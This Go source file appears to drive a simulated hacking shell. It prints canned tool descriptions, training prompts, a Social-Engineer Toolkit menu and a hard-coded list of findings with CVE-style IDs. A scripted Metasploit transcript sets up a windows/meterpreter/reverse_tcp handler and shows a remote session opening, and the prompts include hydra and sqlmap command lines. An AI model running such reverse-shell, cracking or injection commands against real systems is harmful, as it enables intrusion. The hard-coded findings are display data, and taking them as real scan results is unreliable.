package shell

import "strings"

// Vulnerabilities is the fixed finding list reported by scan.
var Vulnerabilities = []Vulnerability{
	{ID: "CVE-2025-9001", Severity: "CRITICAL", Description: "Remote Code Execution in Legacy Resume Parser"},
	{ID: "CVE-2024-8821", Severity: "HIGH", Description: `SQL Injection in Project "PARKIT" Login Module`},
	{ID: "CVE-2023-1102", Severity: "MEDIUM", Description: `Cross-Site Scripting in "Sorting Visualizer" Canvas`},
	{ID: "CVE-2025-0012", Severity: "HIGH", Description: "Weak API Key permissions in Gemini Service"},
}

var toolInfo = map[string]string{
	"nmap":  "Nmap (Network Mapper) is a network scanner used to discover hosts and services on a computer network by sending packets and analyzing the responses.\nUsage: nmap [target]",
	"hydra": "Hydra is a parallelized login cracker which supports numerous protocols to attack. It is very fast and flexible, and new modules are easy to add.\nUsage: hydra -l [user] -P [wordlist] [target]",
	"john":  "John the Ripper is a fast password cracker. Its primary purpose is to detect weak Unix passwords.\nUsage: john [hashfile]",
}

func toolSummary(tool string) string {
	first, _, _ := strings.Cut(toolInfo[tool], "\n")
	return first
}

var trainingModules = []string{
	"Concept Learning: Type `explain [topic]` (e.g., `explain phishing`, `explain buffer overflow`).",
	"Network Recon: Type `nmap 192.168.1.1` to practice port scanning.",
	"Web Exploitation: Type `sqlmap -u http://target.com/id=1` to simulate database injection.",
	"Frameworks: Type `msfconsole` to initialize Metasploit environment.",
}

const msfBanner = `      .:okOOOkdc'           'cdkOOOko:.
    .xOOOOOOOOOOOOc       cOOOOOOOOOOOOx.
   :OOOOOOOOOOOOOOOk,   ,kOOOOOOOOOOOOOOO:
  'OOOOOOOOOkkkkOOOOO: :OOOOOOOOOOOOOOOOOO'
  oOOOOOOOO.    .oOOOOoOOOOl.    ,OOOOOOOOo
  dOOOOOOOO.      .cOOOOOc.      ,OOOOOOOOx
  lOOOOOOOO.         ;d;         ,OOOOOOOOl
  .OOOOOOOO.         .;.         ;OOOOOOOO.
   cOOOOOOO.                     ;OOOOOOOc
    oOOOOOO.                     ;OOOOOOo
     lOOOOO.                     ;OOOOOl
      ;OOOO'                     'OOOO;
       .dOOo                     oOOd.
         .ok                     ko.
           .                     .`

var msfSession = []string{
	"       =[ metasploit v6.1.0-dev                          ]",
	"+ -- --=[ 2163 exploits - 1147 auxiliary - 367 post       ]",
	"+ -- --=[ 592 payloads - 45 encoders - 10 nops            ]",
	"+ -- --=[ 8 evasion                                       ]",
	"",
	"msf6 > use exploit/multi/handler",
	"msf6 exploit(multi/handler) > set PAYLOAD windows/meterpreter/reverse_tcp",
	"msf6 exploit(multi/handler) > set LHOST 10.0.0.5",
	"msf6 exploit(multi/handler) > exploit",
	"[*] Started reverse TCP handler on 10.0.0.5:4444",
	"[*] Sending stage (175174 bytes) to 192.168.1.104",
	"[*] Meterpreter session 1 opened (10.0.0.5:4444 -> 192.168.1.104:49211)",
}

var setoolkitMenu = []string{
	"Social-Engineer Toolkit (SET)",
	"Created by: David Kennedy (ReL1K)",
	"",
	"Select from the menu:",
	"    1) Social-Engineering Attacks",
	"    2) Penetration Testing (Fast-Track)",
	"    3) Third Party Modules",
	"    4) Update the Social-Engineer Toolkit",
	"    5) Update SET configuration",
	"    99) Exit the Social-Engineer Toolkit",
	"",
	"set> _",
}
